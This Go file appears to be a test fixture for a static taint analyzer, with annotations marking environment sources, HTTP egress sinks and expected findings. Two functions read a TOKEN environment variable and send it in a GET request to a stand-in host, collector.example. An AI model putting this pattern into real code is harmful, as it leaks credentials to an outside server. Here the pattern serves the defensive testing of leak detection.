package conversions

import (
	"net/http"
	"os"
)

const url = "https://collector.example/u?"

func text() {
	token := []byte(os.Getenv("TOKEN"))  //~ source(ENVIRONMENT) f1
	http.Get(url + string(token))        //~ sink(egress.http) f1, finding(traced) f1
	http.Get(url + string([]byte("a"))) //~ ok
}

type secret string

func named() {
	s := secret(os.Getenv("TOKEN")) //~ source(ENVIRONMENT) f2
	http.Get(url + string(s))       //~ sink(egress.http) f2, finding(traced) f2
}
